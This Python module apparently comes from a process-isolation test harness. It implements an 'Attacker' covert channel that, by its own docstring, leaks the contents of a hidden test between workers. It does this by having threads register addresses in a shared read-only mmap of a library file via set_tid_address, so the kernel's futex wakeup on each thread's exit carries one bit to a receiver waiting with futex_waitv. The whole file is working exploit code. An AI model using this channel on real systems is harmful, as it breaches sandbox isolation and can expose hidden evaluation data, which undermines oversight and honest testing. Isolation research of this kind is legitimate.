"""Sends what is in a hidden test by threads that end: the kernel wakes whoever waits for them, at
places of a library where another worker waits."""

import ctypes
import mmap
import os
import platform
import threading
import time

from honest import Pair, bits, byte

EXPECT = "plays on"
PAIR = "batch"

FUTEX_WAITV = 449
SET_TID_ADDRESS = {"x86_64": 218, "aarch64": 96}
SIZE_OF_32_BITS = 2


class Waiter(ctypes.Structure):
    _fields_ = (
        ("value", ctypes.c_uint64),
        ("place", ctypes.c_uint64),
        ("flags", ctypes.c_uint32),
        ("unused", ctypes.c_uint32),
    )


class Attacker(Pair):
    heard = (False,) * 16

    def places(self):
        with open(os.__file__, "rb") as file:
            self.memory = mmap.mmap(file.fileno(), 4096, mmap.MAP_SHARED, mmap.PROT_READ)
        view = (ctypes.c_ubyte * 80)()
        ctypes.pythonapi.PyObject_GetBuffer(ctypes.py_object(self.memory), ctypes.byref(view), 0)
        start = ctypes.c_void_p.from_buffer(view).value
        return [start + 4 * number for number in range(16)]

    def send(self, secret):
        threading.stack_size(32 << 10)
        libc, number = ctypes.CDLL(None), SET_TID_ADDRESS[platform.machine()]
        places = self.places()

        def end(place):
            libc.syscall(number, ctypes.c_void_p(place))

        for place, bit in list(zip(places, bits(secret), strict=True)) * 5:
            if bit:
                threading.Thread(target=end, args=[place], daemon=True).start()
                time.sleep(0.005)

    def receive(self):
        if not hasattr(self, "memory"):
            heard = Attacker.heard = [False] * 16
            libc = ctypes.CDLL(None)
            threading.stack_size(32 << 10)

            def wait(number, place):
                value = int.from_bytes(self.memory[4 * number : 4 * number + 4], "little")
                waiter = ctypes.byref(Waiter(value, place, SIZE_OF_32_BITS, 0))
                heard[number] = libc.syscall(FUTEX_WAITV, waiter, 1, 0, None, 1) == 0

            for waited in enumerate(self.places()):
                threading.Thread(target=wait, args=waited, daemon=True).start()
            time.sleep(0.3)
        return byte(list(Attacker.heard))
